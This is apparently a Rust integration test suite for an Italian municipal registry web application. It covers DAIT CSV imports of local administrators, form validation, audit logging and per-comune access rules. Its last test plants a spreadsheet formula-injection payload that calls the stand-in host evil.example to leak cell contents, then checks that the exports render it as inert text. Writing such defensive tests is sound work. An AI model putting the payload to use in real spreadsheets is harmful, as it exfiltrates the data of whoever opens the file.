use axum::http::StatusCode;
use piazza_db::audit::Actor;
use piazza_web::anagrafica::{dait, store};

use crate::common::{Role, TestApp, data_file};

const SAMPLE: &str = "amministratori-comunali-dait-sample-provincia-firenze.csv";

#[tokio::test]
async fn dait_sample_imports_40_administrators_and_reimport_changes_nothing() {
    let app = TestApp::new().await;
    let t = app.state.territorio.get();
    let parsed = dait::parse(&data_file(SAMPLE), &t).expect("sample parses");
    assert_eq!(parsed.righe.len(), 40);
    let s = store::importa_dait(&app.db, &Actor::system("test"), &parsed, &app.state.config)
        .await
        .unwrap();
    assert_eq!((s.amministratori_nuovi, s.persone_nuove), (40, 40));
    assert_eq!(app.count("amministratori").await, 40);
    let audit_before = app.count("audit_log").await;

    let again = store::importa_dait(
        &app.db,
        &Actor::system("test"),
        &dait::parse(&data_file(SAMPLE), &t).unwrap(),
        &app.state.config,
    )
    .await
    .unwrap();
    assert_eq!(
        (
            again.amministratori_nuovi,
            again.amministratori_aggiornati,
            again.amministratori_rimossi,
            again.persone_nuove,
            again.persone_aggiornate
        ),
        (0, 0, 0, 0, 0)
    );
    assert_eq!(again.amministratori_invariati, 40);
    assert_eq!(app.count("amministratori").await, 40);
    assert_eq!(app.count("persone").await, 40);
    // Only the import summary is logged.
    assert_eq!(app.count("audit_log").await, audit_before + 1);

    // Offices are read from the two DAIT columns.
    let html = app
        .get(Role::Viewer, "/amministratori?comune=048001")
        .await
        .text();
    assert!(html.contains("Francesco Pignotti"), "names in title case");
    assert!(html.contains("Vicesindaco"));
    let html = app
        .get(Role::Viewer, "/amministratori?carica=presidente_consiglio")
        .await
        .text();
    assert!(html.contains("<strong>1</strong> cariche"));
}

#[tokio::test]
async fn a_file_with_one_broken_date_is_rejected_whole_with_its_line_number() {
    let app = TestApp::new().await;
    let text = String::from_utf8(data_file(SAMPLE)).unwrap();
    let mut lines: Vec<String> = text.split('\n').map(str::to_owned).collect();
    // Line 7 of the file (index 6): break its election date.
    lines[6] = lines[6].replacen("\"09/06/2024\"", "\"31/02/2024\"", 1);
    let broken = lines.join("\n");
    let t = app.state.territorio.get();
    let err = dait::parse(broken.as_bytes(), &t).unwrap_err();
    assert_eq!(err.0.len(), 1, "{:?}", err.0);
    assert!(
        err.0[0].starts_with("riga 7: data di elezione «31/02/2024» non valida"),
        "{}",
        err.0[0]
    );

    // Through the UI: the page lists the line and nothing is saved.
    let r = app
        .post_file(
            Role::Editor,
            "/amministratori/importa",
            "file",
            "provincia_di_firenze.csv",
            broken.as_bytes(),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.text()
            .contains("riga 7: data di elezione «31/02/2024» non valida")
    );
    assert_eq!(app.count("amministratori").await, 0);
    assert_eq!(app.count("persone").await, 0);
}

#[tokio::test]
async fn upload_in_the_ui_imports_and_latin1_files_are_read() {
    let app = TestApp::new().await;
    // The same sample re-encoded as Latin-1 (as older DAIT downloads are).
    let text = String::from_utf8(data_file(SAMPLE)).unwrap();
    let (latin1, _, _) = encoding_rs::WINDOWS_1252.encode(&text);
    let r = app
        .post_file(
            Role::Editor,
            "/amministratori/importa",
            "file",
            "provincia_di_firenze.csv",
            &latin1,
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert!(r.text().contains("Cariche nuove: 40"));
    assert_eq!(app.count("amministratori").await, 40);
    // Viewers cannot import.
    let r = app
        .post_file(
            Role::Viewer,
            "/amministratori/importa",
            "file",
            "x.csv",
            b"x",
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn mayors_file_gives_273_mayors_with_mandate_end_and_flags() {
    let app = TestApp::new().await;
    let t = app.state.territorio.get();
    let parsed = dait::parse(&data_file("sindaci-toscana-dait-2025-01-17.csv"), &t).unwrap();
    assert_eq!(parsed.righe.len(), 273);
    store::importa_dait(&app.db, &Actor::system("test"), &parsed, &app.state.config)
        .await
        .unwrap();
    assert_eq!(app.count("amministratori").await, 273);
    let html = app.get(Role::Anon, "/comuni/048017").await.text();
    assert!(html.contains("Sara Funaro"));
    assert!(
        html.contains("09/06/2029"),
        "mandate end = election + 5 years"
    );
    // Every mayor is classified; the list filters by state.
    let all = store::amministratori(&app.db, &t, &app.state.config, &Default::default())
        .await
        .unwrap();
    assert_eq!(all.len(), 273);
    assert!(all.iter().all(|a| a.fine_mandato.is_some()));
    let html = app
        .get(Role::Viewer, "/amministratori?stato=scaduto&per_pagina=500")
        .await
        .text();
    assert!(!html.contains("Sara Funaro"));
    // The importing the provincial sample afterwards keeps one person per mayor (same identity key).
    let sample = dait::parse(&data_file(SAMPLE), &t).unwrap();
    let s = store::importa_dait(&app.db, &Actor::system("test"), &sample, &app.state.config)
        .await
        .unwrap();
    assert_eq!(
        s.persone_nuove, 38,
        "the two mayors of the sample are already known"
    );
}

#[tokio::test]
async fn people_form_validates_in_italian_and_saves_nothing_when_invalid() {
    let app = TestApp::new().await;
    let r = app
        .post_form(
            Role::Editor,
            "/persone/nuova",
            "nome=Anna&cognome=&email=non-una-mail&data_nascita=32%2F01%2F1980&categorie=staff",
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let html = r.text();
    assert!(html.contains("id=\"cognome-errore\">Il cognome è obbligatorio."));
    assert!(html.contains("id=\"email-errore\">Indirizzo e-mail non valido"));
    assert!(html.contains("id=\"data_nascita-errore\">Data non valida"));
    assert!(html.contains("value=\"Anna\""), "entered values are kept");
    assert_eq!(app.count("persone").await, 0);

    let r = app
        .post_form(Role::Editor, "/persone/nuova", "nome=Anna&cognome=Verdi&email=Anna.Verdi%40Comune.it&data_nascita=03%2F04%2F1980&categorie=staff&categorie=docente")
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let loc = r.location();
    let html = app.get(Role::Viewer, &loc).await.text();
    assert!(html.contains("Anna Verdi"));
    assert!(html.contains("anna.verdi@comune.it"));
    assert!(html.contains("03/04/1980"));
    assert!(
        html.contains("Staff dell&#39;associazione, Docente")
            || html.contains("Staff dell&#x27;associazione, Docente"),
        "{html}"
    );
    // Search is accent- and case-insensitive; the export has the person.
    let html = app.get(Role::Viewer, "/persone?q=VERDI").await.text();
    assert!(html.contains("<strong>1</strong> persone"));
    let csv = app
        .get(Role::Viewer, "/persone/export.csv?q=verdi")
        .await
        .text();
    assert!(csv.contains("Verdi;Anna;anna.verdi@comune.it;;;03/04/1980"));

    // Edit and delete are audited with before/after.
    let id = loc.rsplit('/').next().unwrap().to_owned();
    let r = app
        .post_form(
            Role::Editor,
            &format!("/persone/{id}/modifica"),
            "nome=Anna&cognome=Verdi-Rossi&categorie=staff",
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let audit = app
        .get(Role::Admin, "/admin/audit?entita=persona&azione=modifica")
        .await
        .text();
    assert!(audit.contains("Verdi-Rossi") && audit.contains("editor@test.it"));
    let r = app
        .post_form(Role::Editor, &format!("/persone/{id}/elimina"), "")
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert_eq!(app.count("persone").await, 0);
    // A viewer can neither create nor delete.
    assert_eq!(
        app.post_form(Role::Viewer, "/persone/nuova", "nome=A&cognome=B")
            .await
            .status,
        StatusCode::FORBIDDEN
    );
}

#[tokio::test]
async fn organisations_validate_tax_codes_and_referenti_edit_only_their_comuni() {
    let app = TestApp::new().await;
    let r = app
        .post_form(
            Role::Editor,
            "/organizzazioni/nuova",
            "nome=Fornitore+X&tipo=fornitore&partita_iva=01114601007",
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().contains("Partita IVA non valida"));
    let r = app
        .post_form(
            Role::Editor,
            "/organizzazioni/nuova",
            "nome=Fornitore+X&tipo=fornitore&partita_iva=01114601006&comune=050026",
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let pisa_org = r.location();

    // The referente of Firenze creates the comune's own offices in Firenze, not in Pisa, and
    // no third-party organisation (an association is not the comune's to register).
    let r = app
        .post_form(
            Role::Referente,
            "/organizzazioni/nuova",
            "nome=Pro+Loco+Firenze&tipo=associazione&comune=048017",
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = app
        .post_form(
            Role::Referente,
            "/organizzazioni/nuova",
            "nome=Ufficio+tributi+Firenze&tipo=ufficio_comunale&comune=048017",
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let fi_org = r.location();
    let r = app
        .post_form(
            Role::Referente,
            "/organizzazioni/nuova",
            "nome=Ufficio+tributi+Pisa&tipo=ufficio_comunale&comune=050026",
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = app
        .post_form(
            Role::Referente,
            &format!("{pisa_org}/modifica"),
            "nome=Preso&tipo=fornitore",
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = app
        .post_form(
            Role::Referente,
            &format!("{fi_org}/modifica"),
            "nome=Ufficio+tributi+del+Comune&tipo=ufficio_comunale&comune=048017",
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    // ... and cannot move it to another comune.
    let r = app
        .post_form(
            Role::Referente,
            &format!("{fi_org}/modifica"),
            "nome=Ufficio+tributi&tipo=ufficio_comunale&comune=050026",
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(
        app.get(Role::Viewer, &fi_org)
            .await
            .text()
            .contains("Ufficio tributi del Comune")
    );
}

#[tokio::test]
async fn referente_edits_administrators_of_their_comune_only() {
    let app = TestApp::new().await;
    let t = app.state.territorio.get();
    let parsed = dait::parse(&data_file("sindaci-toscana-dait-2025-01-17.csv"), &t).unwrap();
    store::importa_dait(&app.db, &Actor::system("test"), &parsed, &app.state.config)
        .await
        .unwrap();
    let all = store::amministratori(&app.db, &t, &app.state.config, &Default::default())
        .await
        .unwrap();
    let firenze = all.iter().find(|a| a.comune_istat == "048017").unwrap().id;
    let pisa = all.iter().find(|a| a.comune_istat == "050026").unwrap().id;
    let r = app
        .post_form(
            Role::Referente,
            &format!("/amministratori/{pisa}/modifica"),
            "carica=sindaco&data_elezione=01%2F01%2F2024",
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = app
        .post_form(
            Role::Referente,
            &format!("/amministratori/{firenze}/modifica"),
            "carica=sindaco&data_elezione=10%2F06%2F2024&data_inizio=01%2F06%2F2024",
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.text()
            .contains("L&#39;entrata in carica non può precedere l&#39;elezione.")
            || r.text().contains("entrata in carica non può precedere")
    );
    let r = app
        .post_form(
            Role::Referente,
            &format!("/amministratori/{firenze}/modifica"),
            "carica=sindaco&data_elezione=10%2F06%2F2024&data_inizio=11%2F06%2F2024",
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert!(
        app.get(Role::Anon, "/comuni/048017")
            .await
            .text()
            .contains("10/06/2029")
    );
}

#[tokio::test]
async fn a_referente_sees_only_the_people_of_their_comune_and_exports_are_safe_to_open() {
    let app = TestApp::new().await;
    let t = app.state.territorio.get();
    let parsed = dait::parse(&data_file("sindaci-toscana-dait-2025-01-17.csv"), &t).unwrap();
    store::importa_dait(&app.db, &Actor::system("test"), &parsed, &app.state.config)
        .await
        .unwrap();
    let all = store::amministratori(&app.db, &t, &app.state.config, &Default::default())
        .await
        .unwrap();
    let sindaco_firenze = all.iter().find(|a| a.comune_istat == "048017").unwrap();
    let sindaco_pisa = all.iter().find(|a| a.comune_istat == "050026").unwrap();
    // A private person of Pisa with a birth date and an e-mail, and the Region, seated in Firenze.
    let r = app
        .post_form(
            Role::Editor,
            "/persone/nuova",
            "nome=Privata&cognome=Pisana&email=privata%40example.org&data_nascita=01%2F02%2F1980",
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let privata = r.location();
    let r = app
        .post_form(
            Role::Editor,
            "/organizzazioni/nuova",
            "nome=Regione+Toscana&tipo=regione&comune=048017",
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let regione = r.location();

    // The referente of Firenze: Firenze's mayor yes; Pisa's mayor and the private person no.
    let html = app
        .get(Role::Referente, "/persone?per_pagina=500")
        .await
        .text();
    let link = |a: &piazza_web::anagrafica::model::AmministratoreView| {
        format!("/persone/{}", a.persona_public_id)
    };
    assert!(html.contains(&link(sindaco_firenze)), "{html}");
    assert!(!html.contains(&link(sindaco_pisa)));
    assert!(!html.contains("Pisana"));
    let csv = app.get(Role::Referente, "/persone/export.csv").await.text();
    assert!(csv.lines().count() > 1, "{csv}");
    assert!(!csv.contains("privata@example.org") && !csv.contains("Pisana"));
    assert_eq!(
        app.get(Role::Referente, &privata).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.get(
            Role::Referente,
            &format!("/persone/{}", sindaco_pisa.persona_public_id)
        )
        .await
        .status,
        StatusCode::NOT_FOUND
    );
    // The Region has its seat in Firenze but is not the comune's: no edit.
    let r = app
        .post_form(
            Role::Referente,
            &format!("{regione}/modifica"),
            "nome=Presa&tipo=regione&comune=048017",
        )
        .await;
    assert!(
        r.status == StatusCode::FORBIDDEN || r.status == StatusCode::NOT_FOUND,
        "{}",
        r.status
    );
    // The staff see everything.
    let html = app
        .get(Role::Viewer, "/persone?per_pagina=500")
        .await
        .text();
    assert!(html.contains("Pisana") && html.contains(&link(sindaco_pisa)));

    // A referente renames one of the comune's offices into a formula: the staff's export
    // shows it as text, never as a formula.
    let r = app
        .post_form(
            Role::Referente,
            "/organizzazioni/nuova",
            "nome=Ufficio&tipo=ufficio_comunale&comune=048017",
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let ufficio = r.location();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Apri\")";
    let r = app
        .post_form(
            Role::Referente,
            &format!("{ufficio}/modifica"),
            &format!(
                "nome={}&tipo=ufficio_comunale&comune=048017",
                piazza_web::kit::error::urlencode(formula)
            ),
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let csv = app
        .get(Role::Viewer, "/organizzazioni/export.csv")
        .await
        .text();
    let riga = csv.lines().find(|l| l.contains("HYPERLINK")).unwrap();
    assert!(riga.contains("'=HYPERLINK"), "{riga}");
    assert!(
        !riga
            .split(';')
            .any(|c| c.trim_matches('"').starts_with('=')),
        "{riga}"
    );
    let xlsx = app.get(Role::Viewer, "/organizzazioni/export.xlsx").await;
    let righe = {
        use calamine::Reader;
        let mut wb = calamine::Xlsx::new(std::io::Cursor::new(xlsx.body.clone())).unwrap();
        let r = wb.worksheet_range_at(0).unwrap().unwrap();
        let formule = wb.worksheet_formula(&wb.sheet_names()[0].clone()).unwrap();
        assert!(
            formule.used_cells().count() == 0,
            "no formula in the export"
        );
        r.rows().map(|x| x.to_vec()).collect::<Vec<_>>()
    };
    assert!(
        righe
            .iter()
            .flatten()
            .any(|c| *c == calamine::Data::String(formula.to_owned())),
        "the name is a text cell (quote-prefixed, as typed), not a formula"
    );
}
